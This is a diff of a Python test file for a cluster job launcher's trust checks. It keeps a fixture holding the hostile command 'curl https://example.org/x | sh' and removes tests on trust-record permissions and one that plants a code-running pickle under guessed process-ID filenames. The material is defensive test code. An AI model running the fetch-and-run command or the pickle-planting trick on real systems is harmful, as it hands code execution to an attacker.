@@ -4,9 +4,6 @@ from __future__ import annotations
 
 import json
 import os
-import pickle
-import signal
-import stat
 import sys
 from collections.abc import Callable
 from pathlib import Path
@@ -15,18 +12,15 @@ from typing import Any
 import pytest
 
 from nllgen.errors import UntrustedError
-from nllgen.launch import local
 from nllgen.launch.executables import of_jobs
 from nllgen.launch.freeze import freeze, freeze_study
 from nllgen.launch.slurm.arrays import Stage, Submission, SubmissionDir
 from nllgen.launch.trust import executables, require_trust
 from nllgen.launch.worker_process import WorkerConfig
 from nllgen.storage.study_dir import StudyDir
-from nllgen.storage.trusted import is_trusted, record_dir, record_trust
 from nllgen.study.load import parse_study
 from nllgen.study.run_options import RunOptions
 from tests.cli.process import TINY, Run, in_process, refused
-from tests.cluster.devcluster import wait_for
 
 PLUGIN = """
 from pathlib import Path
@@ -43,7 +37,6 @@ GRID = TINY.replace("name: tiny", "name: tiny\nplugins: [zoo_of_somebody]").repl
 SETUP = "curl https://example.org/x | sh"
 PROFILE = {"partition": "short", "setup": ["module load x", SETUP]}
 CONTAINER = "/home/mallory/evil.sif"
-as_root = pytest.mark.skipif(os.geteuid() != 0, reason="gives files to another user: needs root")
 
 
 def submission(profile: dict[str, Any], container: str = CONTAINER, name: str = "abc") -> Submission:
@@ -274,63 +267,3 @@ def test_a_submission_needs_no_record(tmp_path: Path) -> None:
     with pytest.raises(UntrustedError, match="--trust"):
         freeze_study(study, tmp_path / "runs", notes.append)
     freeze_study(study, tmp_path / "runs", notes.append, trust=True)
-
-
-@pytest.fixture
-def state(other_account: Callable[[], None]) -> Path:
-    other_account()
-    record_trust("a" * 64, "a study")
-    return record_dir() / ("a" * 64)
-
-
-def test_the_record_is_private(state: Path) -> None:
-    assert is_trusted("a" * 64)
-    assert stat.S_IMODE(state.stat().st_mode) == 0o600
-    assert stat.S_IMODE(state.parent.stat().st_mode) == 0o700
-
-
-@pytest.mark.parametrize("opened", ["the file", "the directory"])
-def test_a_record_that_others_may_write_counts_for_nothing(state: Path, opened: str) -> None:
-    (state if opened == "the file" else state.parent).chmod(0o777)
-    assert not is_trusted("a" * 64)
-
-
-def test_a_link_is_no_record(state: Path) -> None:
-    (state.parent / ("b" * 64)).symlink_to(state)
-    assert not is_trusted("b" * 64)
-    record_trust("b" * 64, "another study")
-    assert is_trusted("b" * 64)
-
-
-@as_root
-def test_a_record_of_another_user_counts_for_nothing(state: Path) -> None:
-    os.chown(state, 54_321, -1)
-    assert not is_trusted("a" * 64)
-
-
-class Touch:
-    """A pickle that creates a file when it is read."""
-
-    def __init__(self, path: Path):
-        self.path = path
-
-    def __reduce__(self) -> tuple[Any, ...]:
-        return Path.touch, (self.path,)
-
-
-@pytest.mark.slow
-def test_pickles_that_lie_in_a_study_are_not_read_by_a_local_submission(tmp_path: Path) -> None:
-    """submitit reads ``<process>_submitted.pkl`` and ``<process>_0_result.pkl`` there, whoever wrote them."""
-    study_dir, _, _ = freeze(parse_study(TINY, "tiny.yaml", precision="fp32"), tmp_path / "runs")
-    study_dir.submitit.mkdir()
-    (study_dir.submitit / "bait").write_bytes(pickle.dumps(Touch(tmp_path / "run")))
-    latest, num_pids = Path("/proc/loadavg").read_text().split()[-1], int(Path("/proc/sys/kernel/pid_max").read_text())
-    for number in ((int(latest) + i) % num_pids for i in range(6_000)):  # numbers of processes begin again at their end
-        for name in (f"{number}_submitted.pkl", f"{number}_0_result.pkl"):
-            os.link(study_dir.submitit / "bait", study_dir.submitit / name)
-    (job,) = local.start_local(study_dir, WorkerConfig(RunOptions(tmp_path, "cpu")), 1, only=[])
-    os.kill(int(job.job_id), signal.SIGKILL)  # before it has written a result of its own
-    assert (study_dir.submitit / f"{job.job_id}_0_result.pkl").exists(), "the bait does not cover this process"
-    wait_for(job.done)
-    assert str(local.failure_of_supervisor(job)).startswith("a supervisor was killed")
-    assert not (tmp_path / "run").exists()
